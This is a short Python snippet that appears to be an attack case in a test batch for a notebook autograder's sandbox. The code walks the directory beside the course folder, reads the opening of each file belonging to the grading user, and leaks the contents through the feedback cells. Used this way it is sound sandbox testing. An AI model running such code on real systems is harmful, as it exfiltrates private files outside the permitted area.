# attack: a file of the grading user outside the hidden paths (beside the course folder) into the feedback
# cells: dcounts_sum_inv
# batch: walls
outside = os.path.dirname(course_dir())
found = []
for root, dirs, files in os.walk(outside):
    if root.startswith(course_dir()):
        continue
    for name in files:
        try:
            with open(os.path.join(root, name)) as f:
                found.append(name + ': ' + f.read(120))
        except OSError:
            pass
if found:
    leak(' | '.join(found))
raise OSError('nothing readable beside the course')
